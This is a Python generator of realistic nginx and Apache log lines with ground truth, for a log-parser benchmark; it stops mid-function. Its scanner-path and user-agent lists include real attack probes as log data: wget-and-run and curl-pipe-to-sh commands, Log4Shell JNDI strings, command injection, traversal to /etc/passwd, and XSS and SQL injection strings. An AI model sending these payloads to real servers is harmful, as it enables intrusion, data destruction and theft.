"""Realistic nginx and Apache log lines with ground truth, for the tolerance benchmark.

``generate(preset, n, seed)`` writes ``n`` entries the way the server of ``preset`` writes them
and says, for each, what the line really carries. ``doc_samples()`` loads the hand-written
documentation samples (tests/data/doc_samples/samples.json) in the same shape. Both feed
benchmarks/tolerance.py and tests/test_tolerance_corpus.py.

The ground truth follows the servers' documentation and source, never this project's parser:

* nginx ``escape=default`` (ngx_http_log_module): '"', '\\', bytes below 0x20 and above 0x7e are
  written as ``\\xHH`` (upper-case hex); everything else raw, spaces included. A variable without a
  value is written as ``-``. ``$time_local`` is taken at the log write (the response end).
  ``$upstream_response_time`` separates servers with ", " and internal redirects with " : ".
  The error log writes ``YYYY/MM/DD HH:MM:SS [level] pid#tid: *cid message`` in local time
  without a zone, then ``, client: ..., server: ..., request: "...", upstream: "...",
  host: "...", referrer: "..."``; values there are raw, and FastCGI stderr keeps its newlines.
* Apache httpd (mod_log_config, ``ap_escape_logitem``): in ``%r`` and ``%{...}i`` '"' and '\\' get a
  backslash, \\b \\n \\r \\t \\v are written C-style, other bytes that are not printable ASCII as
  ``\\xhh`` (lower-case hex). ``%t`` is the time the request was received. ``%b`` is ``-`` for
  no body bytes (i.e. 0). ``%h`` is a host name with HostnameLookups On. ``%>s`` is ``-`` while
  the request has no status.
* Apache error logs (core ``ErrorLogFormat``, ``ap_recent_ctime_ex``): ``%t`` writes
  ``Fri Sep 09 10:42:29 2011``, ``%{u}t`` adds ``.902022`` before the year, ``%{c}t`` writes the
  compact ``2011-09-09 10:42:29`` and ``%{cu}t`` (= ``%{uc}t``) ``2011-09-09 10:42:29.902022``;
  all local time without a zone (read as UTC here, the parser's default). The 2.4 default is
  ``[%{u}t] [%-m:%l] [pid %P:tid %T] %7F: %E: [client\\ %a] %M% ,\\ referer:\\ %{Referer}i``,
  2.2 writes ``[time] [level] [client ip] status: message``. An item without output drops its
  whole space-delimited field. Lines a process writes straight to the error log (no timestamp)
  belong to the entry before them.

What a case's ``expected`` holds (only the fields the line carries; ``None`` means the line
carries the field without a value, e.g. ``-``):

access: ``client`` (normalized IP text, IPv4-mapped IPv6 folded to IPv4, or ``name:<host>``
lower-cased), ``time`` (µs UTC of the logged time), ``status`` (int or None), ``bytes_sent``
(int; Apache ``%b`` ``-`` is 0), ``method``, ``url_path`` (as logged, percent-encoding kept,
server escapes undone), ``url_query`` (after the first '?', None without one), ``protocol``
(None for HTTP/0.9), ``referrer``, ``user_agent`` (escapes undone, ``-`` -> None) and ``extra``:
``trailing`` (text after the configured format, after its separating space, as logged),
``truncated`` (the variable a cut-off last quoted field belongs to; the partial value is the
field's value) and ``request`` (the request text as logged when it is not "METHOD target
[HTTP/x.y]", except for ``-`` and ``""``).

error: ``logged_at`` (µs UTC), ``level`` (None for entries without one), ``client``
(normalized IP or None), ``message`` (how the ``%M`` / nginx message starts) and, for entries
of several physical lines, ``lines``.
"""
from __future__ import annotations

import calendar
import ipaddress
import json
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

ACCESS_PRESETS = ("combined", "main", "timed_combined", "apache_combined", "apache_common")
ERROR_PRESETS = ("nginx_error", "apache_error")
PRESETS = ACCESS_PRESETS + ERROR_PRESETS
NGINX_ACCESS = ("combined", "main", "timed_combined")
ACCESS_FIELDS = ("client", "time", "status", "bytes_sent", "method", "url_path", "url_query", "protocol",
                 "referrer", "user_agent")
ERROR_FIELDS = ("logged_at", "level", "client", "message", "lines")
EXTRA_KEYS = ("trailing", "truncated", "request")
DOC_SAMPLES = Path(__file__).resolve().parent / "data" / "doc_samples" / "samples.json"

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
WEEKDAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")


@dataclass
class Case:
    """One log entry as the server wrote it, and what it carries."""

    preset: str
    text: str                       # without its final line ending; "\n" between lines of one entry
    expected: dict
    classes: tuple[str, ...] = ("normal",)
    eol: str = "\n"
    source: str = ""                # documentation samples: where the line is documented

    @property
    def lines(self) -> int:
        return self.text.count("\n") + 1

    def raw(self) -> str:
        return self.text.replace("\n", self.eol) + self.eol


def log_bytes(cases: list[Case]) -> bytes:
    """The cases as one log file."""
    return "".join(c.raw() for c in cases).encode("utf-8")


def is_access(preset: str) -> bool:
    return preset not in ERROR_PRESETS


# -- what servers write --------------------------------------------------------------------------


def _bytes(value: str | bytes) -> bytes:
    return value.encode("utf-8") if isinstance(value, str) else value


def nginx_escape(value: str | bytes) -> str:
    """ngx_http_log_escape (escape=default): '"', '\\', < 0x20 and > 0x7e as \\xHH."""
    return "".join(f"\\x{b:02X}" if b < 0x20 or b > 0x7E or b in (0x22, 0x5C) else chr(b) for b in _bytes(value))


_APACHE_NAMED = {0x08: "\\b", 0x0A: "\\n", 0x0D: "\\r", 0x09: "\\t", 0x0B: "\\v", 0x22: '\\"', 0x5C: "\\\\"}


def apache_escape(value: str | bytes) -> str:
    """ap_escape_logitem: '"' and '\\' backslashed, \\b\\n\\r\\t\\v C-style, other non-printables \\xhh."""
    out = []
    for b in _bytes(value):
        if b in _APACHE_NAMED:
            out.append(_APACHE_NAMED[b])
        elif b < 0x20 or b > 0x7E:
            out.append(f"\\x{b:02x}")
        else:
            out.append(chr(b))
    return "".join(out)


def normalize_client(text: str) -> str:
    """The expected `client` of an address or host name as logged."""
    try:
        address = ipaddress.ip_address(text)
    except ValueError:
        return "name:" + text.lower()
    if address.version == 6 and address.ipv4_mapped is not None:
        return str(address.ipv4_mapped)
    return str(address)


def _utc_us(utc: datetime) -> int:
    return calendar.timegm(utc.timetuple()) * 1_000_000 + utc.microsecond


def clf_time(utc: datetime, offset_minutes: int) -> str:
    """'10/Oct/2000:13:55:36 -0700' for the instant `utc` seen at the given UTC offset."""
    local = utc + timedelta(minutes=offset_minutes)
    sign = "-" if offset_minutes < 0 else "+"
    hours, minutes = divmod(abs(offset_minutes), 60)
    return (f"{local.day:02d}/{MONTHS[local.month - 1]}/{local.year:04d}:{local.hour:02d}:{local.minute:02d}:"
            f"{local.second:02d} {sign}{hours:02d}{minutes:02d}")


def apache_ctime(t: datetime, usec: bool = False, compact: bool = False) -> str:
    """ap_recent_ctime_ex: 'Fri Sep 09 10:42:29[.902022] 2011' or '2011-09-09 10:42:29[.902022]'."""
    clock = f"{t.hour:02d}:{t.minute:02d}:{t.second:02d}" + (f".{t.microsecond:06d}" if usec else "")
    if compact:
        return f"{t.year:04d}-{t.month:02d}-{t.day:02d} {clock}"
    return f"{WEEKDAYS[t.weekday()]} {MONTHS[t.month - 1]} {t.day:02d} {clock} {t.year:04d}"


# -- realistic values ----------------------------------------------------------------------------

PAGES = ["/", "/index.html", "/about/", "/contact", "/blog/", "/pricing", "/login", "/cart", "/checkout/",
         "/blog/2024/05/how-we-cut-our-build-times-in-half/", "/products/widget-3000", "/docs/getting-started",
         "/en-us/support/", "/feed.xml", "/sitemap.xml", "/robots.txt", "/favicon.ico", "/ads.txt",
         "/apple-touch-icon.png", "/.well-known/security.txt", "/category/news/page/3/", "/user/settings"]
ASSETS = ["/static/css/main.4f3a1c.css", "/static/js/app.93bd1e.js", "/static/js/vendor.1c2d3e.chunk.js",
          "/assets/fonts/inter-var.woff2", "/images/hero@2x.jpg", "/img/logo.svg",
          "/wp-content/uploads/2023/11/IMG_2041-1024x768.jpg", "/wp-includes/js/jquery/jquery.min.js",
          "/wp-content/themes/twentytwentyfour/style.css", "/media/video/intro.mp4", "/favicon-32x32.png"]
API = ["/api/v1/items", "/api/v1/items/{n}", "/api/v2/search", "/graphql", "/wp-json/wp/v2/posts",
       "/wp-admin/admin-ajax.php", "/api/v1/users/{n}/orders", "/healthz", "/metrics", "/socket.io/"]
PCT_PATHS = ["/wiki/Caf%C3%A9", "/search/%E6%97%A5%E6%9C%AC%E8%AA%9E", "/files/annual%20report%202023.pdf",
             "/tag/c%2B%2B", "/%7Ejdoe/index.html", "/stadt/d%C3%BCsseldorf/", "/a%2Fb%2Fc",
             "/images/logo%20small.png", "/docs/%5Bdraft%5D%20notes.txt"]
SCANNER_PATHS = [
    "/wp-login.php", "/xmlrpc.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/.aws/credentials",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/boaform/admin/formLogin", "/HNAP1/", "/actuator/env", "/owa/auth/logon.aspx", "/server-status",
    "/solr/admin/info/system?wt=json", "/_ignition/execute-solution", "/GponForm/diag_Form?images/",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/jaws;sh+/tmp/jaws", "/w00tw00t.at.ISC.SANS.DFind:)",
    "/?XDEBUG_SESSION_START=phpstorm", "/console/", "/../../../../etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/${jndi:ldap://198.51.100.9:1389/a}", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.3:8088/Mozi.m&curpath=/",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "/admin/config.php", "/.DS_Store",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/manager/html",
    '/?q="><script>alert(1)</script>', "/search?q=<svg/onload=alert(1)>", "/index.php?id=1'%20OR%20'1'='1",
]
RAW_PATHS = ["/café/menü", "/日本語/index.html", "/straße?ort=köln"]   # sent unencoded: escaped by the server
# Proxy probes: authority-form (CONNECT) and absolute-form targets. What `url_path` should hold for
# them is not settled by the documentation (%U / $uri are the path of an absolute URI), so only
# method and protocol are checked.
PROXY_REQUESTS = ["CONNECT www.example.com:443 HTTP/1.1", "CONNECT 198.51.100.7:25 HTTP/1.0",
                  "GET http://azenv.net/ HTTP/1.1", "HEAD http://www.example.org:80/ HTTP/1.1",
                  "GET http://198.51.100.9/proxy.php?x=1 HTTP/1.0"]
QUERIES = ["utm_source=newsletter&utm_medium=email&utm_campaign=spring", "page=2", "q=red+shoes&sort=price",
           "id=123&lang=de", "v=1.2.3", "ref=producthunt", "s=", "fbclid=IwAR2x9kQ7Lm", "p=4711",
           "search=caf%C3%A9&limit=20", "redirect_to=%2Fwp-admin%2F&reauth=1", "callback=jQuery3600_17123&_=1712345"]
REFERRERS = ["https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
             "https://www.example.com/", "https://www.example.com/blog/", "https://www.example.com/pricing",
             "https://t.co/Ab12Cd34", "android-app://com.google.android.gm/", "http://m.facebook.com/",
             "https://news.ycombinator.com/item?id=39912345", "https://www.example.com/search?q=widget+3000",
             "https://l.instagram.com/?u=https%3A%2F%2Fwww.example.com%2F&e=AT0x"]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.0; +https://openai.com/gptbot",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4", "okhttp/4.12.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)", "Mozilla/5.0 zgrab/0.x", "Prometheus/2.51.1",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Expanse, a Palo Alto Networks company, "
    "searches across the global IPv4 space multiple times per day to identify customers' presences on the "
    "Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: "
    "scaninfo@paloaltonetworks.com",
]
LONG_USER_AGENTS = [
    "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/460.0.0.48.109;IABMV/1;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "Instagram 321.0.2.24.105 (iPhone14,5; iOS 17_3_1; de_DE; de; scale=3.00; 1170x2532; 574040312; IABMV/1)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; SLCC2; .NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET CLR "
    "3.0.30729; Media Center PC 6.0; .NET4.0C; .NET4.0E; InfoPath.3; Microsoft Outlook 16.0.5422; ms-office; "
    "MSOffice 16) like Gecko",
]
# Values a server escapes: quotes, backslashes, controls, non-ASCII (shellshock and injection probes).
ESCAPED_USER_AGENTS = [
    '() { :; }; echo; /bin/bash -c "curl -s http://198.51.100.7/x.sh | sh"',
    'Mozilla/5.0 (compatible; "Nessus" scanner)',
    '"><script>alert(document.cookie)</script>',
    "${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/d2dldA==}",
    "Mozilla/5.0 \\\"Evil\\\" C:\\Windows\\System32",
    "Mozilla/5.0 (Linux; U; Android 4.0.3; ru-ru; Билайн Smart) AppleWebKit/534.30 Version/4.0 Safari/534.30",
    "Mozilla/5.0 (Windows NT 10.0)\tTabbed/1.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; Redmi Note 12 Build/TKQ1.221114.001) Café/1.0 ™",
    '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 '
    'Safari/537.36"',   # a client that sends its User-Agent quoted
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; "Corporate Build \\ Ring 2"; .NET CLR 3.5.30729; '
    '.NET4.0C; .NET4.0E; Tablet PC 2.0; Microsoft Outlook 16.0.17328; ms-office; MSOffice 16) like Gecko',
]
ESCAPED_REFERRERS = ['https://www.example.com/search?q="exact phrase"', "https://www.example.com/stra\u00dfe",
                     "http://www.example.com/\\..\\..\\windows\\win.ini"]
HOSTNAMES = ["crawl-66-249-66-1.googlebot.com", "msnbot-157-55-39-12.search.msn.com", "dsl-203-0-113-7.example.net",
             "proxy.Example.COM", "localhost", "ec2-198-51-100-23.compute-1.amazonaws.com", "host-192-0-2-44.isp.example",
             "Mail.Example.ORG", "cpe-98-76-54-32.nc.res.rr.com"]
USER_NAMES = ["frank", "alice", "bob.jones", "admin", "jdoe@example.org", "svc_backup"]
IDENT_TOKENS = ["frank", "12345", "root", "nobody", "unknown", "web01", "jdoe"]
STATUS_WEIGHTS = {200: 620, 304: 70, 301: 25, 302: 30, 404: 90, 403: 15, 500: 8, 502: 6, 503: 5, 206: 10,
                  204: 15, 201: 10, 401: 12, 400: 8, 405: 3, 408: 2, 429: 6, 101: 4, 100: 1, 504: 3, 416: 1}
NGINX_ONLY_STATUS = {499: 12, 444: 2}
METHOD_WEIGHTS = {"GET": 820, "POST": 110, "HEAD": 35, "PUT": 8, "DELETE": 5, "OPTIONS": 12, "PATCH": 4,
                  "PROPFIND": 2}
JUNK_TOKENS = ["SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "MGLNDD_{ip}_443", "JDWP-Handshake", "HELP", "Gh0st",
               "STATS"]
SOCKS_AND_FRIENDS = [b"\x05\x01\x00", b"\x04\x01\x00P\xc6\x33\x64\x07\x00", b"\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00",
                     b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", b"\x00\x0e8\x97\xab"]


def _weighted(rng: random.Random, weights: dict):
    keys = [k for k, w in weights.items() if w > 0]
    return rng.choices(keys, weights=[weights[k] for k in keys])[0]


def _ipv4(rng: random.Random) -> str:
    first = rng.choice([n for n in range(1, 224) if n not in (10, 127)])
    return f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _ipv6(rng: random.Random) -> str:
    prefix = rng.choice([0x20010DB8, 0x2A0104F8, 0x26001F18, 0x2A028108, 0x24049800, 0x2C0FF248])
    groups = [rng.choice([0, 0, 0, rng.randrange(1, 0x10000)]) for _ in range(6)]
    value = (prefix << 96) | sum(g << (16 * (5 - i)) for i, g in enumerate(groups))
    return str(ipaddress.IPv6Address(value))          # compressed, lower-case: what inet_ntop writes


def _bytes_for(rng: random.Random, status: int) -> int:
    if status in (100, 101, 204, 304, 444, 499):
        return 0
    if status in (301, 302):
        return rng.choice([162, 169, 228, 5])
    if status >= 400:
        return rng.choice([153, 157, 162, 196, 555, 4711, 1480])
    return int(rng.lognormvariate(8.5, 1.6))


def _binary_payload(rng: random.Random, apache: bool) -> bytes:
    """Bytes a TLS / SOCKS / RDP / SMB client sends to an HTTP port, as much of them as gets logged."""
    if rng.random() < 0.75:   # a TLS ClientHello: record header, handshake header, random
        size = rng.randrange(0x60, 0x200)
        data = bytes([0x16, 0x03, rng.choice([0x01, 0x01, 0x03]), size >> 8, size & 0xFF, 0x01, 0x00,
                      (size - 4) >> 8, (size - 4) & 0xFF, 0x03, 0x03])
        data += bytes(rng.randrange(256) for _ in range(rng.randrange(0, 48)))
        data = data[:rng.randrange(3, len(data) + 1)]
    else:
        data = rng.choice(SOCKS_AND_FRIENDS)
    # A space would make the logged text look split-able, a line feed ends Apache's request line.
    avoid = (0x20, 0x0A, 0x0D) if not data.startswith(b"\x03\x00\x00/*") else (0x0A, 0x0D)
    return bytes(b if b not in avoid else 0x21 + (b % 7) for b in data)


@dataclass
class _Request:
    text: str                    # the request line as sent (decoded form)
    expected: dict
    classes: list = field(default_factory=list)
    logged: str | None = None    # as logged, when it is not the escaped text
    overrides: dict = field(default_factory=dict)   # client, status, bytes, referrer, ua that come with it


def _target(rng: random.Random, classes: list) -> str:
    r = rng.random()
    if r < 0.07:
        path = rng.choice(SCANNER_PATHS)
        classes.append("scanner")
    elif r < 0.11:
        path = rng.choice(PCT_PATHS)
        classes.append("pct_encoded")
    elif r < 0.115:
        path = rng.choice(RAW_PATHS)
        classes.append("escaped_value")
    elif r < 0.42:
        path = rng.choice(ASSETS)
    elif r < 0.56:
        path = rng.choice(API).replace("{n}", str(rng.randrange(1, 99999)))
    else:
        path = rng.choice(PAGES)
    if "?" not in path and rng.random() < 0.16:
        path += "?" + rng.choice(QUERIES)
    if "?" in path:
        classes.append("query")
    return path


def _split(method: str, target: str, protocol: str | None) -> dict:
    path, sep, query = target.partition("?")
    return {"method": method, "url_path": path, "url_query": query if sep else None, "protocol": protocol}


def _normal_request(rng: random.Random, apache: bool) -> _Request:
    r = rng.random()
    if apache and r < 0.015:
        # httpd waking its children: "OPTIONS * HTTP/1.0" from itself (mod_log_config logs it)
        return _Request("OPTIONS * HTTP/1.0", _split("OPTIONS", "*", "HTTP/1.0"), ["internal_dummy"],
                        overrides={"client": rng.choice(["::1", "127.0.0.1"]), "status": 200, "bytes": 0,
                                   "referrer": "-", "ua": "Apache/2.4.58 (Ubuntu) OpenSSL/3.0.13 (internal dummy "
                                                          "connection)"})
    if not apache and r < 0.005:
        # an HTTP/2 client speaking prior knowledge to an HTTP/1 port
        return _Request("PRI * HTTP/2.0", _split("PRI", "*", "HTTP/2.0"), ["scanner"],
                        overrides={"status": 400, "bytes": 157, "referrer": "-", "ua": "-"})
    if r < 0.025:
        text = rng.choice(PROXY_REQUESTS)
        method, _, rest = text.partition(" ")
        return _Request(text, {"method": method, "protocol": rest.rsplit(" ", 1)[1]}, ["proxy_request"],
                        overrides={"status": rng.choice([400, 405, 404, 200])})
    classes: list = []
    target = _target(rng, classes)
    method = _weighted(rng, METHOD_WEIGHTS)
    protocols = {"HTTP/1.1": 68, "HTTP/2.0": 26, "HTTP/1.0": 5, "HTTP/3.0": 0 if apache else 1}
    protocol = _weighted(rng, protocols)
    if protocol in ("HTTP/2.0", "HTTP/3.0"):
        classes.append("http2_3")
    return _Request(f"{method} {target} {protocol}", _split(method, target, protocol), classes)


_NO_REQUEST = {"method": None, "url_path": None, "url_query": None, "protocol": None}


def _special_request(rng: random.Random, kind: str, apache: bool, escape) -> _Request:
    if kind == "http09":
        target = rng.choice(["/", "/", "/index.html", "/robots.txt", "/favicon.ico", "/?a=1"])
        return _Request(f"GET {target}", _split("GET", target, None))
    if kind == "uri_space":
        target = rng.choice(["/my file.html", "/files/annual report 2023.pdf", "/search?q=new york&page=1",
                             "/wiki/Main Page", "/a b/c d?x=1 2", "/images/photo (1).jpg"])
        method = rng.choice(["GET", "GET", "HEAD", "POST"])
        protocol = rng.choice(["HTTP/1.1", "HTTP/1.1", "HTTP/1.0"])
        return _Request(f"{method} {target} {protocol}", _split(method, target, protocol))
    if kind == "dash_request":
        return _Request("-", dict(_NO_REQUEST))
    if kind == "empty_request":
        return _Request("", dict(_NO_REQUEST))
    if kind == "junk_token":
        token = rng.choice(JUNK_TOKENS).replace("{ip}", _ipv4(rng))
        return _Request(token, {**_NO_REQUEST, "extra": {"request": escape(token)}})
    payload = _binary_payload(rng, apache)
    logged = escape(payload)
    return _Request("", {**_NO_REQUEST, "extra": {"request": logged}}, logged=logged)


# -- access logs ---------------------------------------------------------------------------------

# Line classes a case can be written in (each case has at most one), and their weights.
SPECIAL_WEIGHTS = {"ident": 3.0, "trailing": 3.5, "http09": 1.5, "uri_space": 1.5, "dash_request": 1.2,
                   "empty_request": 0.6, "binary_request": 2.2, "junk_token": 0.6, "status_dash": 1.8,
                   "unquoted_dash": 2.2, "truncated": 2.2, "crlf": 1.5}
NORMAL_WEIGHT = 78.0


def _specials_for(preset: str) -> dict:
    weights = dict(SPECIAL_WEIGHTS)
    if not preset.startswith("apache_"):
        del weights["status_dash"]
    if preset not in ("combined", "apache_combined"):
        del weights["unquoted_dash"]
    if preset == "apache_common":
        del weights["truncated"]
    return weights


class _Clock:
    """The instants a log covers, in UTC, and the server's UTC offset (with one DST change)."""

    def __init__(self, rng: random.Random, n: int, usec: bool = False):
        self.rng, self.usec = rng, usec
        self.now = datetime(2025, rng.randrange(1, 13), rng.randrange(1, 28), rng.randrange(24), rng.randrange(60),
                            rng.randrange(60))
        self.offset = rng.choice([0, 60, 120, -300, -420, 330, 540, -180, 600, 345])
        self.dst_at = n // 2 if self.offset in (60, -300, -420, 600) and rng.random() < 0.7 else None
        self.count = 0

    def tick(self) -> datetime:
        self.count += 1
        if self.count == self.dst_at:
            self.offset += 60
        self.now += timedelta(seconds=self.rng.choice([0, 0, 1, 1, 1, 2, 3, 5, 8, 13]))
        if self.usec:
            self.now = self.now.replace(microsecond=self.rng.randrange(1_000_000))
        return self.now


def _ua(rng: random.Random, classes: list) -> str:
    r = rng.random()
    if r < 0.04:
        return "-"
    if r < 0.07:
        classes.append("escaped_value")
        return rng.choice(ESCAPED_USER_AGENTS)
    if r < 0.11:
        classes.append("long_ua")
        return rng.choice(LONG_USER_AGENTS)
    return rng.choice(USER_AGENTS)


def _referrer(rng: random.Random, classes: list) -> str:
    r = rng.random()
    if r < 0.45:
        return "-"
    if r < 0.46:
        classes.append("escaped_value")
        return rng.choice(ESCAPED_REFERRERS)
    return rng.choice(REFERRERS)


def _value(text: str) -> str | None:
    return None if text == "-" else text


def _cut(escaped: str, rng: random.Random, decode) -> str:
    """A prefix of an escaped value, cut where a write could stop: not inside an escape sequence,
    not inside a character's UTF-8 bytes, not right after a space (the partial value would end in
    a space a reader could trim)."""
    cuts = []
    i = 1
    while i < len(escaped):
        if escaped[i - 1] == "\\":       # never just after a backslash
            i += 1
            continue
        ok = escaped[i - 1] != " "
        # inside \xHH: positions i where escaped[i-2:i] == '\x' or escaped[i-3:i-1] == '\x'
        if escaped[max(0, i - 2):i] == "\\x" or escaped[max(0, i - 3):i - 1] == "\\x":
            ok = False
        if ok and "\ufffd" not in decode(escaped[:i]):
            cuts.append(i)
        i += 1
    return escaped[:rng.choice(cuts)] if cuts else escaped


def _decode_nginx(text: str) -> str:
    raw, i = bytearray(), 0
    data = text.encode("utf-8")
    while i < len(data):
        if data[i:i + 2] == b"\\x" and len(data) >= i + 4:
            raw.append(int(data[i + 2:i + 4], 16))
            i += 4
        else:
            raw.append(data[i])
            i += 1
    return raw.decode("utf-8", "replace")


def _decode_apache(text: str) -> str:
    named = {"b": 0x08, "n": 0x0A, "r": 0x0D, "t": 0x09, "v": 0x0B, '"': 0x22, "\\": 0x5C}
    raw, i = bytearray(), 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text):
            if text[i + 1] == "x" and i + 3 < len(text):
                raw.append(int(text[i + 2:i + 4], 16))
                i += 4
                continue
            if text[i + 1] in named:
                raw.append(named[text[i + 1]])
                i += 2
                continue
        raw += text[i].encode("utf-8")
        i += 1
    return raw.decode("utf-8", "replace")


def _access_case(rng: random.Random, preset: str, clock: _Clock, specials: dict) -> Case:
    apache = preset.startswith("apache_")
    escape = apache_escape if apache else nginx_escape
    decode = _decode_apache if apache else _decode_nginx
    kinds = {"normal": NORMAL_WEIGHT, **specials}
    kind = _weighted(rng, kinds)
    classes: list = [kind]

    # client
    r = rng.random()
    if apache and r < 0.05:
        client = rng.choice(HOSTNAMES)
        classes.append("hostname")
    elif r < 0.09:
        client = _ipv6(rng)
        classes.append("ipv6")
    elif not apache and r < 0.10:
        client = "::ffff:" + _ipv4(rng)
        classes.append("ipv4_mapped")
    else:
        client = _ipv4(rng)
    ident = rng.choice(IDENT_TOKENS) if kind == "ident" else "-"
    no_request = kind in ("dash_request", "empty_request", "binary_request", "junk_token")
    user = rng.choice(USER_NAMES) if rng.random() < 0.03 and not no_request else "-"
    if apache and user != "-":
        user = apache_escape(user)
    when = clock.tick()
    stamp = clf_time(when, clock.offset)

    # request, status, bytes
    if kind in ("http09", "uri_space", "dash_request", "empty_request", "junk_token", "binary_request"):
        req = _special_request(rng, kind, apache, escape)
        if kind in ("dash_request", "empty_request", "junk_token", "binary_request"):
            status = 408 if apache and kind == "dash_request" else 400
        elif kind == "http09":
            status = 400 if apache else rng.choice([200, 200, 400])
        else:
            status = rng.choice([400, 400, 200, 404])
    else:
        req = _normal_request(rng, apache)
        status = _weighted(rng, {**STATUS_WEIGHTS, **({} if apache else NGINX_ONLY_STATUS)})
        if req.expected["method"] == "HEAD" and status == 101:
            status = 200
        status = req.overrides.get("status", status)
        if "client" in req.overrides:
            client = req.overrides["client"]
            classes = [c for c in classes if c not in ("ipv6", "hostname", "ipv4_mapped")]
    classes += req.classes
    if status in (100, 101):
        classes.append("status_1xx")
    nbytes = _bytes_for(rng, status) if req.expected["method"] != "HEAD" else 0
    nbytes = req.overrides.get("bytes", nbytes)
    if kind in ("dash_request", "empty_request"):
        nbytes = 0
    elif kind in ("binary_request", "junk_token"):
        nbytes = rng.choice([0, 226]) if apache else rng.choice([150, 157, 166, 0])
    request_logged = req.logged if req.logged is not None else escape(req.text) if req.text else req.text
    if kind == "dash_request":
        request_logged = "-"
    status_text = str(status)
    if kind == "status_dash":
        status_text, nbytes = "-", 0
    bytes_text = str(nbytes)
    if apache and nbytes == 0:
        bytes_text = "-"              # %b: CLF '-' for no bytes
        classes.append("bytes_dash")

    expected: dict = {"client": normalize_client(client), "time": _utc_us(when),
                      "status": None if status_text == "-" else status, "bytes_sent": nbytes,
                      **{k: v for k, v in req.expected.items() if k != "extra"}}
    extra = dict(req.expected.get("extra", {}))
    line = f'{client} {ident} {user} [{stamp}] "{request_logged}" {status_text} {bytes_text}'

    trailing = _trailing(rng, preset) if kind == "trailing" else None
    if preset != "apache_common":
        if no_request:
            referrer, ua = "-", "-"
        else:
            referrer, ua = _referrer(rng, classes), _ua(rng, classes)
            referrer, ua = req.overrides.get("referrer", referrer), req.overrides.get("ua", ua)
        ref_logged, ua_logged = escape(referrer), escape(ua)
        expected["referrer"] = _value(referrer)
        expected["user_agent"] = _value(ua)
        cut_referrer = kind == "truncated" and preset != "main" and len(ref_logged) > 4 and rng.random() < 0.2
        if cut_referrer:   # the write stopped inside the referrer: no user agent on the line at all
            partial = _cut(ref_logged, rng, decode)
            line += f' "{partial}'
            expected["referrer"] = decode(partial)
            del expected["user_agent"]
            extra["truncated"] = "http_referer"
            classes.append("cut_in_referrer")
        elif kind == "truncated" and preset != "main":
            if len(ua_logged) < 4:
                ua, ua_logged = (rng.choice(USER_AGENTS),) * 2
